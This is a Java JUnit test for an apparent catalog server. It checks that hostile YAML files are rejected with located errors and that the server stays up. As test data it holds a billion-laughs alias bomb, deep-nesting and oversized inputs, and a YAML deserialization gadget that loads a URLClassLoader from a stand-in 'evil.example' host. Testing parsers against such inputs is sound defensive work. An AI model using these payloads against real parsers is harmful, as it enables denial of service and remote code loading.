package dev.steward.http;

import static dev.steward.testing.Yaml.group;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.steward.catalog.LiveCatalog;
import dev.steward.catalog.SyncStatus;
import dev.steward.catalog.load.ManifestLoader;
import dev.steward.catalog.load.yaml.YamlLimits;
import dev.steward.git.CatalogSync;
import dev.steward.git.SyncSettings;
import dev.steward.testing.TestRepo;
import io.javalin.testtools.JavalinTest;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.HashMap;
import java.util.Map;
import org.eclipse.jgit.lib.ObjectId;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * Every kind of hostile file committed at once to a served repository: each is one clear, located
 * error in {@code /api/status}, and the server goes on answering from the last good commit.
 */
@Timeout(120)
class HostileInputTest {
    @TempDir
    Path tmp;

    private static String billionLaughs() {
        StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            yaml.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) yaml.append(i == 0 ? "" : ",").append('*').append((char) (c - 1));
            yaml.append("]\n");
        }
        return yaml.toString();
    }

    @Test
    void hostileFilesAreLocatedErrorsAndTheServerStaysUp() throws Exception {
        try (TestRepo repo = TestRepo.create(tmp)) {
            ObjectId good = repo.manifest("good.yaml", group("platform", "")).commit("good");
            byte[] big = new byte[50 * 1024 * 1024];
            java.util.Arrays.fill(big, (byte) '#');
            repo.manifest("bomb.yaml", billionLaughs())
                    .write("catalog-yaml/big.yaml", big)
                    .manifest("deep.yaml", "a: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n")
                    .manifest("tags.yaml", "apiVersion: backstage.io/v1alpha1\nkind: Group\nmetadata:\n"
                            + "  name: !!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]\n")
                    .manifest("dup.yaml", "apiVersion: backstage.io/v1alpha1\nkind: Group\nkind: User\n")
                    .write("catalog-yaml/latin1.yaml", "metadata: {name: caf\u00e9}\n".getBytes(StandardCharsets.ISO_8859_1))
                    .manifest("list.yaml", "- apiVersion: backstage.io/v1alpha1\n- kind: Group\n")
                    .commit("hostile");

            LiveCatalog live = LiveCatalog.empty(SyncStatus.starting("t", "main", 0));
            try (CatalogSync sync = new CatalogSync(repo.open(), new SyncSettings("main", "catalog-yaml", "runbooks",
                    Duration.ZERO, YamlLimits.DEFAULT.maxFileBytes(), 10), new ManifestLoader(), live, a -> { },
                    Clock.systemUTC())) {
                sync.loadInitial();
            }
            JavalinTest.test(StewardApp.create(AppContext.of(live)), (server, client) -> {
                JsonNode status = new ObjectMapper().readTree(client.get("/api/status").body().string());
                assertEquals(good.name(), status.get("commit").asText(), "the good commit is still served");
                Map<String, String> byFile = new HashMap<>();
                status.get("errors").forEach(e -> byFile.merge(e.get("path").asText(),
                        e.get("line").asInt() + ": " + e.get("message").asText(), (a, b) -> a + " | " + b));
                assertEquals(7, byFile.size(), byFile.toString());
                assertTrue(byFile.get("catalog-yaml/bomb.yaml").contains("alias"), byFile.toString());
                assertTrue(byFile.get("catalog-yaml/big.yaml").contains("over the limit"), byFile.toString());
                assertTrue(byFile.get("catalog-yaml/deep.yaml").contains("nest"), byFile.toString());
                assertTrue(byFile.get("catalog-yaml/tags.yaml").startsWith("4: tag '!!java.net.URLClassLoader' is not allowed"),
                        byFile.toString());
                assertTrue(byFile.get("catalog-yaml/dup.yaml").startsWith("3: duplicate key 'kind' (first at line 2)"),
                        byFile.toString());
                assertTrue(byFile.get("catalog-yaml/latin1.yaml").startsWith("1: file is not valid UTF-8"),
                        byFile.toString());
                assertTrue(byFile.get("catalog-yaml/list.yaml").contains("top level is a list"), byFile.toString());
                assertEquals(200, client.get("/api/entities/group/default/platform").code());
                assertEquals(200, client.get("/healthz").code());
            });
        }
    }
}
